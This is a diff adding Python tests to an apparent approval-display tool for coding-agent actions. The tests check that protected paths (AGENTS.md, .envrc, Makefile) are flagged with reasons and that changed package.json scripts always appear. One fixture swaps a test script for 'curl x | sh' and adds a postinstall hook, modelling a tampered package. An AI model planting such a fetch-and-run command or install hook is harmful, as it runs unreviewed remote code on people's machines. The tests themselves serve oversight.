@@ -124,3 +124,37 @@ def test_a_whole_card_has_the_whole_change() -> None:
     assert short[-2] == ("dim", "    +100 -0, 23 lines of it not shown")
     assert whole[-2:] == [("dim", "    +100 -0"), ("dim", "  why: file_write always needs approval")]
     assert ("added", "    +99") in whole
+
+
+def test_what_is_protected_and_what_runs_is_named_first() -> None:
+    """With the reason why it is protected; what runs all the same is named too."""
+    assert shown(ask("file_write", path="AGENTS.md", content="x", protected=True))[1] == (
+        "    protected path AGENTS.md: coding agents obey it"
+    )
+    assert shown(ask("bash", command="x", protected=[".envrc", "b"]))[1:3] == [
+        "    protected path .envrc: direnv runs it when a shell enters the folder",
+        "    protected path b",
+    ]
+    assert shown(ask("bash", command="git add .", git=True))[1] == (
+        "    git write: the repository may be changed, not its settings; no hooks run"
+    )
+    assert (
+        shown(ask("file_write", path="sub/Makefile", content="all:\n"))[1] == "    sub/Makefile: make runs what it says"
+    )
+
+
+def test_changed_scripts_of_a_package_are_shown_however_long_the_diff_is() -> None:
+    """They run with the next install or test of a person."""
+    filler = ", ".join(f'"k{number}": {number}' for number in range(300)).replace(", ", ",\n")
+    old = f'{{{filler},\n"scripts": {{"test": "jest", "lint": "eslint"}}}}'
+    new = old.replace('"k', '"x').replace("jest", "curl x | sh").replace('"lint"', '"postinstall"')
+    lines = shown(ask("file_write", path="package.json", content=new), {"package.json": old})
+    assert lines[1:6] == [
+        "    package.json: npm runs its scripts",
+        "    - script test: jest",
+        "    + script test: curl x | sh",
+        "    - script lint: eslint",
+        "    + script postinstall: eslint",
+    ]
+    assert "    + script test: x" in shown(ask("file_write", path="package.json", content='{"scripts": {"test": "x"}}'))
+    assert shown(ask("file_write", path="package.json", content="{")) != []
